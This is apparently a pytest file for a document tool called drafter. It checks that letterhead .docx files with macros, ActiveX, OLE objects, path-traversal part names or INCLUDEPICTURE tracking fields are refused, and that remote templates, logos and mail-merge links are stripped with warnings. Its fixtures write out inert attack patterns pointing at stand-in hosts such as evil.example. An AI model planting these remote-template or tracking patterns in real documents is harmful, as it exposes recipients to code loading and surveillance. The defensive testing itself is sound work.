"""A letterhead is a file from someone else: drafter keeps only what a letterhead needs.

Each case is built here from the python-docx letterhead fixture, changed the way a hostile or
careless letterhead would be: the exact message a user sees, and what the written document
holds (and does not).
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx
import pytest
from docx.shared import Inches, Twips
from typer.testing import CliRunner

from drafter.cli.main import app
from drafter.errors import LetterheadError
from drafter.render.docx.document import DocInfo, Letterhead
from tests.docx_dump import make_zip

FIXTURES = Path(__file__).parent / "fixtures" / "letterheads"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
NS = f'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{REL}"'
INFO = DocInfo(title="t", running_header="Comments of CEP \u2014 Docket No. X-1")
ACTIVE = (
    "drafter copies no macros, ActiveX controls or embedded objects: save a copy of the "
    "letterhead without them as a plain .docx (Word Document)"
)
RESAVE = "save it again from Word as a .docx"


def base() -> dict[str, bytes]:
    """The parts of the python-docx letterhead (logo header, address footer)."""
    with zipfile.ZipFile(FIXTURES / "python-docx.docx") as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def add_rel(parts: dict[str, bytes], rels: str, rid: str, kind: str, target: str, ext=False):
    mode = ' TargetMode="External"' if ext else ""
    rel = f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'
    if rels not in parts:
        parts[rels] = f'<Relationships xmlns="{PKG}"></Relationships>'.encode()
    parts[rels] = parts[rels].replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def add_type(parts: dict[str, bytes], name: str, content_type: str) -> None:
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", override.encode() + b"</Types>"
    )


def save(tmp_path: Path, parts: dict[str, bytes]) -> Path:
    path = tmp_path / "letterhead.docx"
    path.write_bytes(make_zip(parts))
    return path


def refusal(tmp_path: Path, parts: dict[str, bytes]) -> str:
    path = save(tmp_path, parts)
    with pytest.raises(LetterheadError) as caught:
        Letterhead.from_file(path)
    return str(caught.value).replace(str(path), "letterhead.docx")


def written(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


# --- refused -----------------------------------------------------------------------------------


def _vba_behind_plain_types() -> dict[str, bytes]:
    parts = base()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
    vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    add_rel(parts, "word/_rels/document.xml.rels", "rId99", vba, "vbaProject.bin")
    return parts


def _macro_as_image() -> dict[str, bytes]:
    parts = base()
    parts["word/media/image1.png"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
    return parts


def _activex() -> dict[str, bytes]:
    parts = base()
    parts["word/activeX/activeX1.xml"] = b"<ax:ocx xmlns:ax='x'/>"
    add_type(parts, "word/activeX/activeX1.xml", "application/xml")
    return parts


def _ole_link_in_header() -> dict[str, bytes]:
    parts = base()
    add_rel(parts, "word/_rels/header1.xml.rels", "rId9", f"{REL}/oleObject", "embed/o.bin")
    return parts


def _embedded_workbook() -> dict[str, bytes]:
    parts = base()
    parts["word/media/sheet.xlsx"] = make_zip({"x": b"y"})
    return parts


def _renamed(name: str) -> dict[str, bytes]:
    parts = base()
    parts[name] = b"x"
    return parts


def _numbering_id() -> dict[str, bytes]:
    parts = base()
    parts["word/numbering.xml"] = parts["word/numbering.xml"].replace(
        b'w:numId="1"', b'w:numId="one"', 1
    )
    return parts


def _separator_id() -> dict[str, bytes]:
    parts = base()
    parts["word/footnotes.xml"] = (
        f'<w:footnotes {NS}><w:footnote w:type="separator" w:id="-1x"><w:p/></w:footnote>'
        "</w:footnotes>"
    ).encode()
    add_rel(parts, "word/_rels/document.xml.rels", "rId98", f"{REL}/footnotes", "footnotes.xml")
    return parts


def _fetching_header() -> dict[str, bytes]:
    parts = base()
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE '
        '"http://tracker.example/p.png" \\d </w:instrText></w:r><w:r><w:fldChar '
        'w:fldCharType="end"/></w:r></w:p></w:hdr>'
    )
    parts["word/header1.xml"] = parts["word/header1.xml"].replace(b"</w:hdr>", field.encode())
    return parts


@pytest.mark.parametrize(
    ("parts", "message"),
    [
        (
            _vba_behind_plain_types,
            "letterhead.docx: letterhead contains a macro project (word/vbaProject.bin) — "
            f"{ACTIVE}",
        ),
        (
            _macro_as_image,
            "letterhead.docx: letterhead contains an OLE compound file (a macro project or an "
            f"embedded object) (word/media/image1.png) — {ACTIVE}",
        ),
        (
            _activex,
            "letterhead.docx: letterhead contains an ActiveX control "
            f"(word/activeX/activeX1.xml) — {ACTIVE}",
        ),
        (
            _ole_link_in_header,
            "letterhead.docx: letterhead contains an embedded object (embed/o.bin, linked from "
            f"word/_rels/header1.xml.rels) — {ACTIVE}",
        ),
        (
            _embedded_workbook,
            f"letterhead.docx: letterhead contains an embedded object (word/media/sheet.xlsx) — "
            f"{ACTIVE}",
        ),
        (
            lambda: _renamed("../../x"),
            "letterhead.docx: letterhead holds a file named '../../x', a path that leads out of "
            "the package — a .docx never holds such names; use a letterhead saved by Word or "
            "LibreOffice",
        ),
        (
            lambda: _renamed("/abs"),
            "letterhead.docx: letterhead holds a file named '/abs', a path that leads out of the "
            "package — a .docx never holds such names; use a letterhead saved by Word or "
            "LibreOffice",
        ),
        (
            lambda: _renamed("word/media/my logo.png"),
            "letterhead.docx: letterhead holds a file named 'word/media/my logo.png', which is "
            "not a valid part name — open it in Word or LibreOffice and save it again as a .docx",
        ),
        (
            lambda: _renamed("word/Styles.xml"),
            "letterhead.docx: letterhead holds word/Styles.xml twice — open it in Word or "
            "LibreOffice and save it again as a .docx",
        ),
        (
            _numbering_id,
            'letterhead.docx: letterhead part word/numbering.xml has w:numId="one", which is '
            f"not a whole number — {RESAVE}",
        ),
        (
            _separator_id,
            'letterhead.docx: letterhead part word/footnotes.xml has w:id="-1x", which is not a '
            f"whole number — {RESAVE}",
        ),
        (
            _fetching_header,
            "letterhead.docx: letterhead's word/header1.xml has a INCLUDEPICTURE field, which "
            "fetches content from outside the document — replace the field with the picture or "
            "text itself and save the letterhead again",
        ),
    ],
    ids=[
        "vba-plain-type",
        "ole-as-image",
        "activex",
        "ole-link",
        "embedded-zip",
        "dotdot",
        "absolute",
        "space-in-name",
        "case-twin",
        "numid",
        "separator-id",
        "includepicture",
    ],
)
def test_refused(tmp_path: Path, parts, message: str) -> None:
    assert refusal(tmp_path, parts()) == message


# --- left out, with a warning -----------------------------------------------------------------


def _attached_template(parts: dict[str, bytes]) -> None:
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom ", b'<w:attachedTemplate r:id="rId1"/><w:zoom ', 1
    )
    add_rel(parts, "word/_rels/settings.xml.rels", "rId1", f"{REL}/attachedTemplate",
            "http://evil.example/t.dotm", ext=True)  # fmt: skip


def _remote_logo(parts: dict[str, bytes]) -> None:
    parts["word/header1.xml"] = parts["word/header1.xml"].replace(
        b'r:embed="rId1"', b'r:link="rId7"'
    )
    add_rel(parts, "word/_rels/header1.xml.rels", "rId7", f"{REL}/image",
            "http://evil.example/logo.png", ext=True)  # fmt: skip


def _mail_merge(parts: dict[str, bytes]) -> None:
    merge = (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/>'
        '<w:connectString w:val="DSN=evil"/><w:dataSource r:id="rId3"/></w:mailMerge>'
    )
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:defaultTabStop ", merge.encode() + b"<w:defaultTabStop ", 1
    )
    add_rel(parts, "word/_rels/settings.xml.rels", "rId3", f"{REL}/mailMergeSource",
            "file:///C:/data/members.xlsx", ext=True)  # fmt: skip


TEMPLATE_WARNING = (
    "letterhead.docx: letterhead attaches the template http://evil.example/t.dotm, which "
    "drafter leaves out — a letter needs only the letterhead's styles, header and footer"
)
LOGO_WARNING = (
    "letterhead.docx: letterhead links to an outside image at http://evil.example/logo.png, "
    "which drafter leaves out — put what the letterhead needs into the file itself and save it "
    "again"
)
MERGE_WARNINGS = [
    "letterhead.docx: letterhead links to an outside mail-merge data source at "
    "file:///C:/data/members.xlsx, which drafter leaves out — put what the letterhead needs "
    "into the file itself and save it again",
    "letterhead.docx: letterhead sets up a mail merge from an outside data source, which "
    "drafter leaves out — a letter needs only the letterhead's styles, header and footer",
]


@pytest.mark.parametrize(
    ("change", "warnings", "gone"),
    [
        (_attached_template, [TEMPLATE_WARNING], (b"evil.example", b"attachedTemplate")),
        (_remote_logo, [LOGO_WARNING], (b"evil.example", b"r:link")),
        (_mail_merge, MERGE_WARNINGS, (b"members.xlsx", b"DSN=evil", b"mailMerge")),
    ],
    ids=["attached-template", "remote-logo", "mail-merge"],
)
def test_left_out_with_a_warning(tmp_path: Path, change, warnings: list[str], gone) -> None:
    parts = base()
    change(parts)
    path = save(tmp_path, parts)
    letterhead = Letterhead.from_file(path)
    shown = [str(w).replace(str(path), "letterhead.docx") for w in letterhead.warnings]
    assert shown == warnings
    assert all(w.severity == "warning" for w in letterhead.warnings)
    package = written(letterhead.render("Text.", INFO))
    for name, data in package.items():
        for needle in gone:
            assert needle not in data, (name, needle)


def test_a_hyperlink_in_the_footer_is_kept(tmp_path: Path) -> None:
    parts = base()
    parts["word/footer1.xml"] = parts["word/footer1.xml"].replace(
        b"<w:r><w:t>200",
        b'<w:hyperlink r:id="rId5"><w:r><w:t>example.net</w:t></w:r></w:hyperlink><w:r><w:t>200',
    )
    add_rel(parts, "word/_rels/footer1.xml.rels", "rId5", f"{REL}/hyperlink",
            "https://example.net/", ext=True)  # fmt: skip
    letterhead = Letterhead.from_file(save(tmp_path, parts))
    assert letterhead.warnings == ()
    document = docx.Document(io.BytesIO(letterhead.render("Text.", INFO)))
    footer = document.sections[0].footer
    assert footer.paragraphs[0].text.startswith("example.net200 Example Street")
    assert [r.target_ref for r in footer.part.rels.values()] == ["https://example.net/"]


def test_what_a_letter_keeps_of_a_letterhead(tmp_path: Path) -> None:
    """python-docx's document carries custom XML, a thumbnail, styles with effects and web
    settings: none of it reaches a letter. The header's logo does."""
    data = Letterhead.from_file(save(tmp_path, base())).render("Text.", INFO)
    assert sorted(written(data)) == [
        "[Content_Types].xml",
        "_rels/.rels",
        "docProps/app.xml",
        "docProps/core.xml",
        "word/_rels/document.xml.rels",
        "word/_rels/header1.xml.rels",
        "word/_rels/header2.xml.rels",
        "word/document.xml",
        "word/fontTable.xml",
        "word/footer1.xml",
        "word/footer2.xml",
        "word/footnotes.xml",
        "word/header1.xml",
        "word/header2.xml",
        "word/media/image1.png",
        "word/numbering.xml",
        "word/settings.xml",
        "word/styles.xml",
        "word/theme/theme1.xml",
    ]
    document = docx.Document(io.BytesIO(data))
    section = document.sections[0]
    first = section.first_page_header
    assert first.paragraphs[0].text == "  RIVERSIDE DIGITAL RIGHTS COALITION"
    assert len(first.part.rels) == 1  # the logo
    assert [p.text for p in section.header.paragraphs] == ["Comments of CEP — Docket No. X-1"]
    for footer in (section.first_page_footer, section.footer):  # theirs, with page numbers
        texts = [p.text for p in footer.paragraphs]
        assert texts == [
            "200 Example Street, Suite 4 · Springfield, IL 62701 · example.net",
            "Page 1 of 1",
        ]


def test_a_multi_section_letterhead_gives_its_first_section(tmp_path: Path) -> None:
    document = docx.Document()
    first = document.sections[0]
    first.page_width, first.page_height = Twips(11906), Twips(16838)  # A4
    first.left_margin = Inches(1.5)
    first.header.paragraphs[0].text = "FIRST SECTION HEADER"
    first.footer.paragraphs[0].text = "first section footer"
    document.add_paragraph("one")
    last = document.add_section()
    last.page_width, last.page_height = Inches(8.5), Inches(11)
    last.left_margin = Inches(0.5)
    last.header.is_linked_to_previous = False
    last.header.paragraphs[0].text = "LAST SECTION HEADER"
    last.footer.is_linked_to_previous = False
    last.footer.paragraphs[0].text = "last section footer"
    path = tmp_path / "sections.docx"
    document.save(str(path))
    data = Letterhead.from_file(path).render("Text.", DocInfo(title="t"))
    out = docx.Document(io.BytesIO(data))
    assert len(out.sections) == 1
    section = out.sections[0]
    assert (section.page_width, section.left_margin) == (Twips(11906), Inches(1.5))
    assert [p.text for p in section.first_page_header.paragraphs] == ["FIRST SECTION HEADER"]
    assert [p.text for p in section.header.paragraphs] == ["FIRST SECTION HEADER"]
    assert section.footer.paragraphs[0].text == "first section footer"
    assert b"LAST SECTION" not in b"".join(written(data).values())


# --- warnings reach the user ------------------------------------------------------------------


def test_warnings_are_printed_by_letter_and_check(mini_ws: Path) -> None:
    parts = base()
    _attached_template(parts)
    (mini_ws / "templates").mkdir(exist_ok=True)
    (mini_ws / "templates" / "letterhead.docx").write_bytes(make_zip(parts))
    runner = CliRunner(env={"COLUMNS": "200"})
    out = mini_ws / "letter.docx"
    result = runner.invoke(app, ["-w", str(mini_ws), "letter", "agency-x", "-o", str(out)])
    assert result.exit_code == 0, result.output
    expected = (
        "warning: templates/letterhead.docx: letterhead attaches the template "
        "http://evil.example/t.dotm, which drafter leaves out — a letter needs only the "
        "letterhead's styles, header and footer"
    )
    assert expected in result.output.replace(str(mini_ws) + "/", "")
    assert b"evil.example" not in b"".join(written(out.read_bytes()).values())
    result = runner.invoke(app, ["-w", str(mini_ws), "check"])
    assert expected in result.output.replace(str(mini_ws) + "/", "")


# --- flaws drafter mends rather than passes on ------------------------------------------------


def _garbage_theme(parts: dict[str, bytes]) -> None:
    parts["word/theme/theme1.xml"] = b"<theme/>"


def _not_a_png(parts: dict[str, bytes]) -> None:
    parts["word/media/image1.png"] = b"GIF89a" + bytes(64)


def _undeclared_ignorable(parts: dict[str, bytes]) -> None:
    parts["word/footer1.xml"] = parts["word/footer1.xml"].replace(
        b'mc:Ignorable="w14 wp14"', b'mc:Ignorable="w14 wp14 w99"'
    )


@pytest.mark.parametrize(
    "change",
    [_garbage_theme, _not_a_png, _undeclared_ignorable],
    ids=["garbage-theme", "not-a-png", "undeclared-ignorable"],
)
def test_flaws_are_mended(tmp_path: Path, change) -> None:
    from tests.test_docx_valid import audit

    parts = base()
    change(parts)
    letterhead = Letterhead.from_file(save(tmp_path, parts))
    out = tmp_path / "letter.docx"
    out.write_bytes(letterhead.render("Text.", INFO))
    assert audit(out) == []
    document = docx.Document(str(out))
    header = document.sections[0].first_page_header
    assert header.paragraphs[0].text == "  RIVERSIDE DIGITAL RIGHTS COALITION"
    pictures = header._element.findall(".//{*}drawing")
    assert len(pictures) == (0 if change is _not_a_png else 1)
